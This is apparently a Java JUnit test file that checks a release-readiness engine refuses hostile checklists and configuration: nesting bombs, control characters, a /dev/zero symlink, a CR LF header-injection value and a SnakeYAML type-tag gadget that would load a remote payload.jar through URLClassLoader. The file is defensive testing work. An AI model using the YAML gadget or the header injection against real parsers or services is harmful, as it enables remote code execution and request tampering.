package dev.readiness.hostile;

import static dev.readiness.hostile.HostileProject.AUTHORIZATION;
import static dev.readiness.hostile.HostileProject.param;
import static dev.readiness.hostile.Row.fails;
import static dev.readiness.hostile.Row.refused;
import static org.assertj.core.api.Assertions.assertThat;

import dev.readiness.engine.ConfigElement;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.stream.Stream;
import mockwebserver3.MockResponse;
import mockwebserver3.MockWebServer;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * The readers of what the team writes against hostile text: the Markdown checklist, the POM-shaped
 * configuration and {@code readiness.yaml}. A checklist the engine can read must bind and decide its
 * items whatever else it holds, in bounded time; a configuration it cannot trust must be refused
 * before anything runs, in one line, without printing the secret. Each row runs the real engine
 * (see {@link HostileProject}).
 */
class HostileConfigurationTest {

    private static final String FAILED = "1 of 1 test failed";

    /** The team's Markdown checklist, read by commonmark-java with the task-list extension. */
    @Nested
    class Checklist {

        static Stream<Row> rows() {
            return Stream.of(
                    fails("an item ticked by hand while its tests fail", "tests", FAILED,
                            p -> failingTests(p).checklist("# Release\n\n- [x] All unit tests pass\n"))
                            .also((run, p) -> assertThat(run.markdown).contains("- [ ] All unit tests pass — **FAIL**")),
                    refused("an item inside 100,000 nested block quotes", "nests block quotes and lists too deep at line 1",
                            p -> failingTests(p).checklist("> ".repeat(100_000) + "- [ ] All unit tests pass\n")),
                    fails("an item nested 100 block quotes deep beside a top-level item", "tests", FAILED,
                            p -> failingTests(p).checklist("- [ ] Docs written\n\n" + "> ".repeat(100) + "- [ ] All unit tests pass\n"))
                            .also((run, p) -> assertThat(run.itemsOf("tests")).extracting(i -> i.item().section())
                                    .as("the item keeps its place on the checklist").doesNotContain("Not on the checklist")),
                    fails("an item trailed by 5,000 nested emphasis markers", "tests", FAILED,
                            p -> failingTests(p).checklist("- [ ] All unit tests pass " + "*a **a ".repeat(5_000) + "\n")),
                    fails("an item trailed by 20,000 unclosed link openers", "tests", FAILED,
                            p -> failingTests(p).checklist("- [ ] All unit tests pass " + "[".repeat(20_000) + "a\n")),
                    fails("an item carrying NUL, terminal escapes and a right-to-left override", "tests", FAILED,
                            p -> failingTests(p).checklist("- [ ] All unit tests pass\u0000 \u001b[8m\u202Egnp.exe\u001b[0m\n"))
                            .also((run, p) -> assertThat(run.markdown + run.junit).doesNotContain("\u001b").doesNotContain("\u202E")
                                    .doesNotContain("\u0000")),
                    fails("a checklist pasted 300 times over", "tests", FAILED,
                            p -> failingTests(p).checklist("## Testing\n\n- [ ] All unit tests pass\n".repeat(300)))
                            .also((run, p) -> assertThat(run.itemsOf("tests")).hasSize(300)),
                    refused("a checklist path that names a folder", "cannot be read", p -> {
                        failingTests(p).checklistPath("docs");
                        Files.createDirectories(p.dir.resolve("docs"));
                    }),
                    refused("a checklist linked to /dev/zero", "larger than", p -> {
                        failingTests(p).checklistPath("PRODUCTION_READINESS.md");
                        Files.createSymbolicLink(p.dir.resolve("PRODUCTION_READINESS.md"), Path.of("/dev/zero"));
                    }),
                    refused("a checklist whose only task item is quoted in a code block", "has no task items",
                            p -> failingTests(p).checklist("# Template\n\n```markdown\n- [ ] All unit tests pass\n```\n")));
        }

        @ParameterizedTest(name = "{0}")
        @MethodSource("rows")
        void bindsAndDecidesWhateverTheChecklistHolds(Row row, @TempDir Path dir) throws Exception {
            HostileProject.verify(row, dir);
        }
    }

    /** The plugin's {@code <configuration>} as the POM gives it (elements, expressions already evaluated). */
    @Nested
    class PomConfiguration {

        static Stream<Row> rows() {
            return Stream.of(
                    refused("an Authorization header carrying CR LF and a second header",
                            "http.headers: the value of Authorization holds a carriage return",
                            p -> healthOf(p, p.server()).header("Authorization", AUTHORIZATION + "\r\nX-Forwarded-For: 127.0.0.1")),
                    refused("an http timeout of 30 days, meant as no limit", "timeout",
                            p -> healthOf(p, p.server()).httpTimeout("30d")),
                    refused("a checkTimeout of a million days, meant as no limit", "checkTimeout",
                            p -> failingTests(p).checkTimeout("1000000d")),
                    refused("a coverage minimum written with 5,000 decimals", "too many digits",
                            p -> p.check("coverage", param("minimum", "0.8" + "0".repeat(5_000)))),
                    refused("an unknown check whose name is 10,000 characters long", "unknown check",
                            p -> p.check("t".repeat(10_000))));
        }

        @ParameterizedTest(name = "{0}")
        @MethodSource("rows")
        void refusesWhatItCannotTrustBeforeAnythingRuns(Row row, @TempDir Path dir) throws Exception {
            HostileProject.verify(row, dir);
        }
    }

    /** {@code readiness.yaml} at the project root, read with Jackson's YAML parser under SnakeYAML's limits. */
    @Nested
    class YamlConfiguration {

        static Stream<Row> rows() {
            return Stream.of(
                    refused("readiness.yaml nesting 10,000 flow sequences deep", "readiness.yaml",
                            p -> p.write("readiness.yaml", "checks:\n  tests: " + "[".repeat(10_000) + "]".repeat(10_000) + "\n")),
                    refused("a Java type tag that would make a class loader fetch a URL", "tests", p -> {
                        ScriptedServer jar = p.scripted(ScriptedServer.answering((out, socket) ->
                                ScriptedServer.write(out, "HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n")));
                        p.write("readiness.yaml", "checks:\n  tests: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader "
                                + "[[!!java.net.URL [\"" + jar.url("/payload.jar") + "\"]]]]\n");
                    }).also((run, p) -> assertThat(p.scripted().get(0).connections()).as("connections to the URL in the tag").isZero()),
                    refused("a readiness.yaml of 2 MiB of comments", "readiness.yaml is larger than 1 MiB, the most it may be",
                            p -> p.write("readiness.yaml", "# generated\n".repeat(200_000) + "checks:\n  tests: {}\n")),
                    refused("a merge that left checks: twice, the second dropping coverage", "checks", p -> {
                        failingTests(p);
                        p.write("readiness.yaml", "checks:\n  coverage:\n    minimum: 80%\nfailOnWarnings: true\nchecks:\n  tests: {}\n");
                    }),
                    refused("a check configured with its parameters as one scalar", "takes parameters as elements",
                            p -> p.write("readiness.yaml", "checks:\n  coverage: 80%\n")));
        }

        @ParameterizedTest(name = "{0}")
        @MethodSource("rows")
        void refusesAFileItCannotTrustBeforeAnythingRuns(Row row, @TempDir Path dir) throws Exception {
            HostileProject.verify(row, dir);
        }
    }

    /** The tests check over one Surefire report with one failing test: every item it decides fails. */
    static HostileProject failingTests(HostileProject p) throws IOException {
        p.check("tests");
        p.write("target/surefire-reports/TEST-com.shop.CheckoutTest.xml", "<testsuite name=\"com.shop.CheckoutTest\" tests=\"1\""
                + " failures=\"1\"><testcase classname=\"com.shop.CheckoutTest\" name=\"paysByCard\"><failure message=\"expected"
                + " PAID but was DECLINED\" type=\"org.opentest4j.AssertionFailedError\"/></testcase></testsuite>");
        return p;
    }

    /** The health check of a service that is down, on this server. */
    static HostileProject healthOf(HostileProject p, MockWebServer server) {
        server.enqueue(new MockResponse.Builder().code(503).addHeader("Content-Type", "application/json")
                .body("{\"status\":\"DOWN\"}").build());
        return p.check("health").target(server.url("/").toString());
    }
}
